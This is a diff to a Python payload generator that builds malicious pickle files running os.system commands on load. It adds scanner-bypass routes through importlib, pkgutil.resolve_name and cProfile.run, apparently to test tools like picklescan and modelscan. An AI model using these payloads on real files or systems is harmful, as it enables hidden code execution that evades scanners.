@@ -87,6 +87,10 @@ def payloads(canary: str) -> dict[str, bytes]:
         "runpy": wrap_dict(b"crunpy\n_run_code\n(" + _str_arg(f"import os; os.system({cmd!r})") + b"}tR"),
         "functools.partial": wrap_dict(b"cfunctools\npartial\n(cos\nsystem\n" + _str_arg(cmd) + b"tR)R"),
     }
+    # routes found in scanner bypass reports (picklescan / modelscan): indirection through resolvers
+    out["importlib.import_module"] = wrap_dict(reduce_expr(_Call(getattr, _Call(_import_module, "os"), "system"), cmd))
+    out["pkgutil.resolve_name"] = wrap_dict(reduce_expr(_Call(_resolve_name, "os:system"), cmd))
+    out["cProfile.run"] = wrap_dict(reduce_expr(_cprofile_run, f"import os; os.system({cmd!r})"))
     inner = global_reduce("os", "system", cmd, proto=2) + b"."
     out["pickle.loads"] = wrap_dict(b"cpickle\nloads\n(C" + bytes([len(inner)]) + inner + b"tR")
     out["_pickle.loads"] = wrap_dict(b"c_pickle\nloads\n(C" + bytes([len(inner)]) + inner + b"tR")
@@ -98,6 +102,53 @@ def payloads(canary: str) -> dict[str, bytes]:
     out["torch.storage._load_from_bytes"] = wrap_dict(b"ctorch.storage\n_load_from_bytes\n(B"
                                                       + struct.pack("<I", len(nested)) + nested + b"tR")
     return out
+
+
+def _import_module(name: str):
+    import importlib
+
+    return importlib.import_module(name)
+
+
+def _resolve_name(name: str):
+    import pkgutil
+
+    return pkgutil.resolve_name(name)
+
+
+def _cprofile_run(stmt: str):
+    import cProfile
+
+    return cProfile.run(stmt)
+
+
+class _Call:
+    """Pickles as ``func(*args)`` (REDUCE); ``func`` may itself be a _Call."""
+
+    def __init__(self, func, *args) -> None:
+        self.func, self.args = func, args
+
+    def __reduce__(self):
+        return (self.func, self.args)
+
+    def __call__(self, *args):  # pickle wants a callable as the reduce function; never called here
+        raise TypeError("only pickled")
+
+
+def reduce_expr(func, *args) -> bytes:
+    """Opcodes of one expression ``func(*args)``, without PROTO/STOP and without memo writes.
+
+    The helper functions above stand for the real module functions: their pickled references are
+    renamed to ``importlib.import_module``, ``pkgutil.resolve_name`` and ``cProfile.run``.
+    """
+    import pickletools
+
+    data = pickletools.optimize(pickle.dumps(_Call(func, *args), protocol=2))
+    for local, real in ((b"_import_module", b"importlib\nimport_module"), (b"_resolve_name", b"pkgutil\nresolve_name"),
+                        (b"_cprofile_run", b"cProfile\nrun")):
+        data = data.replace(b"c" + __name__.encode() + b"\n" + local, b"c" + real)
+    assert data.startswith(b"\x80\x02") and data.endswith(b".") and __name__.encode() not in data
+    return data[2:-1]
 
 
 class _Evil:
